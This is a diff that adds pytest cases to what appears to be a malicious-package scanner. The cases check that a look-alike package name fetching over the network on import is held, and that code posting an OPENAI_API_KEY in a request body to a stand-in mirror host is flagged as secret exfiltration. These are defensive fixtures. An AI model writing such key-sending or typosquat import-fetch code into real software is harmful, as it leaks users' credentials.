@@ -306,3 +306,46 @@ def test_a_file_drop_named_beside_a_request_is_a_weak_sink() -> None:
     rules, held = _in_function(source)
     assert 0 < rules.get("exfil-sink", 0) < 10
     assert not held
+
+
+IMPORT_FETCH = 'import requests\nrequests.get("https://cdn.example.net/v.json")\n'
+
+
+@pytest.mark.parametrize(
+    ("name", "source", "expected"),
+    [
+        ("coloarma", IMPORT_FETCH, True),
+        ("quietlib", IMPORT_FETCH, False),
+        ("coloarma", "X = 1\n", False),
+    ],
+    ids=["a look-alike name that calls out on import", "an own name", "a look-alike name alone"],
+)
+def test_a_look_alike_name_with_network_use_on_import_is_held(
+    name: str, source: str, expected: bool
+) -> None:
+    _, held = _judge(
+        wheel({f"{name}/__init__.py": source}, name=name), f"{name}-1.0-py3-none-any.whl"
+    )
+    assert held is expected
+
+
+@pytest.mark.parametrize(
+    ("call", "expected"),
+    [
+        (
+            'requests.post("https://api.llm-mirror.example.net/v1", '
+            'json={"k": os.getenv("OPENAI_API_KEY")})',
+            True,
+        ),
+        (
+            'requests.post("https://api.openai.com/v1/chat/completions", '
+            'headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}, json={})',
+            False,
+        ),
+    ],
+    ids=["in a body, to an address written in", "in the header its service reads"],
+)
+def test_a_model_providers_key_sent_in_a_body_is_secret_exfil(call: str, expected: bool) -> None:
+    rules, held = _in_function(f"import os, requests\ndef chat():\n    {call}\n")
+    assert ("secret-exfil" in rules) is expected
+    assert held is expected
